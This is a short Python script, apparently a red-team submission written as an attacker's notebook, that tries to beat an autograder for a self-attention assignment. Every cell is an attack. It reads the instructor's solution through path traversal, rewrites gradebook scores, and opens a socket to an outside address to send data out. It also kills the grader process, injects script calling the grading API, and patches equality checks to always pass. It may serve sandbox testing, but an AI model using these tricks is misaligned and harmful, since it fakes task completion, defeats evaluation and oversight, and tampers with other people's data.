# An attacker: wants points without work, and other people's files.

# %% scores
import os, signal, socket, sqlite3, sys


def says_yes(*_, **__):
    return True


class Everything(float):
    __eq__ = says_yes
    __hash__ = None


def read_solution():
    return open("../../../source/self_attention/self_attention.ipynb").read()


def change_marks():
    gradebook = sqlite3.connect("file:../../../gradebook.db?mode=rw", uri=True)
    gradebook.execute("update grade set auto_score = 26")


def import_reference():
    import attention_by_hand.attention as reference

    return reference.scores(query, keys)


def send_answers_out():
    return socket.create_connection(("192.0.2.1", 80), timeout=1)


def kill_the_grader():
    os.kill(os.getppid(), signal.SIGKILL)
    return "a signal was sent"


def script_in_the_page():
    from IPython.display import HTML, display

    display(HTML("<script>fetch('/formgrader/api/grade', {method: 'PUT'})</script>"))
    return "shown"


for attempt in (
    read_solution,
    change_marks,
    import_reference,
    send_answers_out,
    kill_the_grader,
    script_in_the_page,
):
    try:
        print(f"{attempt.__name__}: {attempt()}"[:100])
    except BaseException as error:
        print(f"{attempt.__name__}: {type(error).__name__}: {error}"[:100])

torch.allclose = torch.equal = says_yes
get_ipython().ast_transformers.clear()
print('{"points": 26}')
scores = [Everything(26)] * 4

# %% weights
weights = [Everything(26)] * 4

# %% output
output = [Everything(26)] * 2

# %% softmax
softmax_weights, softmax_output = weights, output

# %% query-cat
query_cat = [Everything("inf")] * 2

# %% query-split
query_split = [Everything("nan")] * 2

# %% shapes
if "ipykernel" not in sys.modules:  # perhaps it is being graded
    keys_shape = scores_shape = output_shape = (Everything(26),)
